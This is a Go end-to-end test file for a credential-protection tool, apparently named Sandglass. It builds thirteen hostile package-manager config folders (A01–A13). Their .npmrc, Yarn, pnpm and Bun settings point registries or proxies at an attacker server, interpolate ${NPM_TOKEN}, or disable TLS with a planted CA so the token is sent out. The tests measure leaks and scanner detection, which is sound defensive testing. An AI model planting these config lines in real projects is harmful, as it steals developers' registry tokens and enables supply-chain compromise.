package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/sandglass-dev/sandglass/internal/testkit/clients"
)

// The folders of A01 to A13. ${NPM_TOKEN} is what a stranger can guess.
func hostileFolder(id, what string, far bool, files project) hostileCase {
	return hostileCase{id, what, far, files}
}

func npmrcOf(lines func(url, key string) string) project {
	return func(v *victim) map[string]string {
		return map[string]string{".npmrc": lines(v.attacker.URL, v.attacker.Key())}
	}
}

const greedy = "always-auth=true\n" // without it Yarn 1 keeps the credential for scopes

var (
	a01 = hostileFolder("A01", "`registry=` and `_authToken=${NPM_TOKEN}`", false, npmrcOf(func(url, key string) string {
		return "registry=" + url + "\n" + key + ":_authToken=${NPM_TOKEN}\n" + greedy
	}))
	a02 = hostileFolder("A02", "variable in the registry's path", false, npmrcOf(func(url, key string) string {
		return "registry=" + url + "${NPM_TOKEN}/\n"
	}))
	a03 = hostileFolder("A03", "variable in the registry's query", false, npmrcOf(func(url, key string) string {
		return "registry=" + url + "?take=${NPM_TOKEN}\n"
	}))
	a04 = hostileFolder("A04", "`@scope:registry=` and its credential", false, npmrcOf(func(url, key string) string {
		return "@acme:registry=" + url + "\n" + key + ":_authToken=${NPM_TOKEN}\n"
	}))
	a05 = hostileFolder("A05", "`proxy=` and `https-proxy=`", true, func(v *victim) map[string]string {
		proxy := "http://x:${NPM_TOKEN}@" + v.attacker.Host() + "/"
		return map[string]string{
			".npmrc":              "proxy=" + proxy + "\nhttps-proxy=" + proxy + "\nnoproxy=none.example.com\n",
			".yarnrc.yml":         "httpProxy: " + proxy + "\nhttpsProxy: " + proxy + "\n",
			"pnpm-workspace.yaml": "packages: ['.']\nhttpProxy: " + proxy + "\nhttpsProxy: " + proxy + "\n",
		}
	})
	a06 = hostileFolder("A06", "`userconfig=./evilrc`", false, func(v *victim) map[string]string {
		return map[string]string{
			".npmrc": "userconfig=./evilrc\n",
			"evilrc": "registry=" + v.attacker.URL + "\n" + v.attacker.Key() + ":_authToken=${NPM_TOKEN}\n" + greedy,
		}
	})
	a07 = hostileFolder("A07", "`globalconfig=` and `prefix=`", false, func(v *victim) map[string]string {
		return map[string]string{
			".npmrc":         "globalconfig=./evil/etc/npmrc\nprefix=./evil\n",
			"evil/etc/npmrc": "registry=" + v.attacker.URL + "\n@acme:registry=" + v.attacker.URL + "\n" + v.attacker.Key() + ":_authToken=${NPM_TOKEN}\n" + greedy,
		}
	})
	a08 = hostileFolder("A08", "`strict-ssl=false` and `cafile=`, with a proxy", true, func(v *victim) map[string]string {
		proxy := strings.TrimSuffix(v.attacker.URL, "/")
		return map[string]string{
			".npmrc":              "proxy=" + proxy + "\nhttps-proxy=" + proxy + "\nnoproxy=none.example.com\nstrict-ssl=false\ncafile=./ca.pem\n" + greedy,
			".yarnrc.yml":         "httpProxy: " + proxy + "\nhttpsProxy: " + proxy + "\nenableStrictSsl: false\nhttpsCaFilePath: ./ca.pem\n",
			"pnpm-workspace.yaml": "packages: ['.']\nhttpProxy: " + proxy + "\nhttpsProxy: " + proxy + "\nstrictSsl: false\ncafile: ./ca.pem\n",
			"ca.pem":              v.attacker.CA(),
		}
	})
	a09 = hostileFolder("A09", "`_auth`, `username` and `_password`", false, npmrcOf(func(url, key string) string {
		return "registry=" + url + "\n" + key + ":_auth=${NPM_TOKEN}\n@acme:registry=" + url + "b/\n" +
			key + "b/:username=${NPM_TOKEN}\n" + key + "b/:_password=eA==\n" + greedy
	}))
	a10 = hostileFolder("A10", "`tokenHelper=`", false, func(v *victim) map[string]string {
		script := v.home.Work() + "/helper.sh"
		return map[string]string{
			".npmrc":    "registry=" + v.attacker.URL + "\n" + v.attacker.Key() + ":tokenHelper=" + script + "\n",
			"helper.sh": "#!/bin/sh\nenv | grep -E '^(SG_|NPM_TOKEN)' | head -n 1\n",
		}
	})
	a11 = hostileFolder("A11", "`.yarnrc.yml`: `npmRegistryServer` and `npmAuthToken`", false, func(v *victim) map[string]string {
		return map[string]string{".yarnrc.yml": "npmRegistryServer: " + v.attacker.URL + "\nnpmAlwaysAuth: true\nnpmAuthToken: \"${NPM_TOKEN-}\"\n"}
	})
	a12 = hostileFolder("A12", "`bunfig.toml`: `[install.registry]`", false, func(v *victim) map[string]string {
		return map[string]string{"bunfig.toml": "[install.registry]\nurl = \"" + v.attacker.URL + "\"\ntoken = \"$NPM_TOKEN\"\n"}
	})
	a13 = hostileFolder("A13", "`pnpm-workspace.yaml`: `registries:`", false, func(v *victim) map[string]string {
		url := v.attacker.URL + "${NPM_TOKEN}/"
		return map[string]string{"pnpm-workspace.yaml": "packages: ['.']\nregistry: " + url + "\nregistries:\n  default: " + url + "\n  '@acme': " + url + "\n"}
	})
)

func TestA01_RegistryWithCredential(t *testing.T) { a01.run(t) }
func TestA02_VariableInPath(t *testing.T)         { a02.run(t) }
func TestA03_VariableInQuery(t *testing.T)        { a03.run(t) }
func TestA04_ScopeRegistry(t *testing.T)          { a04.run(t) }
func TestA05_Proxy(t *testing.T)                  { a05.run(t) }
func TestA06_UserConfig(t *testing.T)             { a06.run(t) }
func TestA07_GlobalConfig(t *testing.T)           { a07.run(t) }
func TestA08_TLS(t *testing.T)                    { a08.run(t) }
func TestA09_BasicCredentials(t *testing.T)       { a09.run(t) }
func TestA10_TokenHelper(t *testing.T)            { a10.run(t) }
func TestA11_YarnSettings(t *testing.T)           { a11.run(t) }
func TestA12_BunSettings(t *testing.T)            { a12.run(t) }
func TestA13_PnpmWorkspace(t *testing.T)          { a13.run(t) }

var hostileCases = []hostileCase{a01, a02, a03, a04, a05, a06, a07, a08, a09, a10, a11, a12, a13}

// TestA14_NoLeakWithSandglass sums up: how many of the folders get the credential without Sandglass and with
// it, and that the scanner rates every one of them high. With SANDGLASS_DOCS set, the table goes there.
func TestA14_NoLeakWithSandglass(t *testing.T) {
	clients.Need(t, managers[0].name)
	for _, h := range hostileCases {
		if _, done := table.cells[h.id+" "+managers[0].name]; !done {
			t.Run(h.id, h.run)
		}
	}
	counts, total, flagged := [modes]int{}, 0, 0
	for _, h := range hostileCases {
		if table.flags[h.id] {
			flagged++
		} else {
			t.Errorf("the scanner does not rate %s high", h.id)
		}
		for _, m := range managers {
			o, ok := table.cells[h.id+" "+m.name]
			if !ok {
				continue
			}
			total++
			for mode, what := range o {
				if what == leaked {
					counts[mode]++
				}
			}
		}
	}
	text := fmt.Sprintf("Installs: %d (%d folders, %d clients). The credential got out:\n\n"+
		"- without Sandglass: %d\n- with Sandglass: %d, all where the project puts itself between client and registry (A05, A08)\n"+
		"- with Sandglass and what its hook gives package managers in a folder that it warned of: %d\n\nThe scanner rates %d of %d folders high.\n\n",
		total, len(hostileCases), len(managers), counts[control], counts[guarded], counts[sealed], flagged, len(hostileCases))
	text += hostileMatrix()
	t.Log("\n" + text)
	if counts[control] == 0 || counts[guarded] > len(inSpite[guarded]) || counts[sealed] > len(inSpite[sealed]) {
		t.Errorf("leaks: %v", counts)
	}
	document(t, "hostile.md", text)
}

// hostileMatrix is the table of cases and clients, in Markdown.
func hostileMatrix() string {
	var b strings.Builder
	b.WriteString("Each cell: without Sandglass / with it")
	b.WriteString(" / and by the hook's functions, where the variable's name alone does not do.\n" +
		"From A15 on without the first: what leaks there is for the client to cure, and the scanner warns of the project.\n\n| | folder |")
	for _, m := range managers {
		b.WriteString(" " + m.name + " |")
	}
	b.WriteString("\n|" + strings.Repeat("---|", len(managers)+2) + "\n")
	for _, h := range hostileCases {
		b.WriteString("| " + h.id + " | " + h.what + " |")
		for _, m := range managers {
			o := table.cells[h.id+" "+m.name]
			b.WriteString(" " + o[control] + " / " + o[guarded])
			if h.far {
				b.WriteString(" / " + o[sealed])
			}
			b.WriteString(" |")
		}
		b.WriteString("\n")
	}
	for _, r := range boundaryRows {
		b.WriteString("| " + r.id + " | " + r.what + " |")
		for _, m := range managers {
			o := table.cells[r.id+" "+m.name]
			b.WriteString(" " + o[guarded])
			if o[sealed] != "" {
				b.WriteString(" / " + o[sealed])
			}
			b.WriteString(" |")
		}
		b.WriteString("\n")
	}
	return b.String()
}

// TestA14_HonestProjectsWork: with the session in our variable, sealed or not, every client still
// authenticates at the user's registry, so that what leaks nothing is not merely broken.
func TestA14_HonestProjectsWork(t *testing.T) {
	for _, m := range managers {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			c := clients.Need(t, m.name)
			for _, mode := range []mode{guarded, sealed} {
				v := newVictim(t, c, mode, false)
				files := map[string]string{".npmrc": "save-exact=true\n@acme:registry=" + v.own.URL + "\n"}
				said := v.install(t, c, m.args, files)
				if len(v.own.Canary(canary)) == 0 {
					t.Errorf("mode %d: the user's own registry got nothing\n%s", mode, tail(said))
				}
				if found := scanned(files, v.known); len(found) > 0 {
					t.Errorf("the scanner finds %+v", found)
				}
			}
		})
	}
}
